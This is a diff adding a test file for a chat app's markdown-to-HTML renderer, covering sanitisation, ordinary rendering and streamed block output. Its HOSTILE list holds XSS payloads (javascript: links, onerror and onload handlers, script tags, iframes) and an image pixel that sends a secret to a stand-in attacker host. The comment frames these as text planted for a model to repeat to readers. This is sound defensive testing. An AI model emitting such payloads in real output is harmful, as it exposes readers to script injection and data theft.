@@ -1,0 +1,92 @@
+"""Markdown of models as HTML: what is shown, what is not, and which blocks are complete."""
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from chat.rendering.answer_text import AnswerText
+from chat.rendering.markdown import render_markdown
+
+# What somebody may write into a task so that a model repeats it to the next reader.
+HOSTILE = [
+    "[click](javascript:alert(1))",
+    "[click](data:text/html,<script>alert(1)</script>)",
+    "![pixel](https://evil.test/?secret=1)",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<a href='https://evil.test' onclick='alert(1)'>x</a>",
+    "<svg/onload=alert(1)>",
+    "[x]: javascript:alert(1)\n[x]",
+    '<https://ok.test/"onmouseover=alert(1)>',
+    "```<script>\nalert(1)\n```",
+    "<style>body{display:none}</style>",
+    "<iframe src=https://evil.test></iframe>",
+    "[a](vbscript:x) [b](file:///etc/passwd)",
+]
+
+TEXT = """Three tasks:
+
+1. **Draft** the copy
+2. Review it
+
+   with legal
+
+```python
+print("a")
+
+
+print("b")
+```
+
+| title | due |
+|---|---|
+| Logo | Friday |
+
+Done."""
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_markdown_runs_and_loads_nothing(text: str) -> None:
+    for tag in re.findall(r"<[^>]*>", render_markdown(text)):
+        assert re.fullmatch(r'</?(p|pre|code|em|strong)>|<a href="https://[^"<>]*" rel="[a-z ]*">|</a>', tag)
+
+
+@given(st.text(max_size=300))
+def test_any_text_is_safe(text: str) -> None:
+    html = render_markdown(text)
+
+    assert "<script" not in html
+    assert "<img" not in html
+
+
+def test_ordinary_markdown_is_shown() -> None:
+    html = render_markdown(TEXT)
+
+    for part in ("<ol>", "<strong>Draft</strong>", "<table>", "<td>Logo</td>", "<pre><code>print("):
+        assert part in html
+    assert 'rel="noopener noreferrer nofollow"' in render_markdown("[a](https://a.test)")
+
+
+def test_text_of_any_length_and_nesting_is_rendered() -> None:
+    assert "<pre>" in render_markdown("a" * 200_000)
+    render_markdown(">" * 10_000 + "*" * 10_000 + "[" * 10_000)
+
+
+@pytest.mark.parametrize("size", [1, 3, 7, 50, 1000])
+def test_blocks_are_complete_and_in_order_however_the_text_arrives(size: int) -> None:
+    answer, html, tail = AnswerText(), [], ""
+
+    for start in range(0, len(TEXT), size):
+        event = answer.add(TEXT[start : start + size])
+        tail += event["delta"]
+        if block := event.get("block"):
+            html.append(block["html"])
+            assert tail.endswith(block["rest"])
+            tail = block["rest"]
+    html.append((answer.close_block() or {})["block"]["html"])
+
+    assert "".join(html) == "".join(map(render_markdown, [TEXT]))
+    assert answer.text == TEXT
+    assert answer.close_block() is None
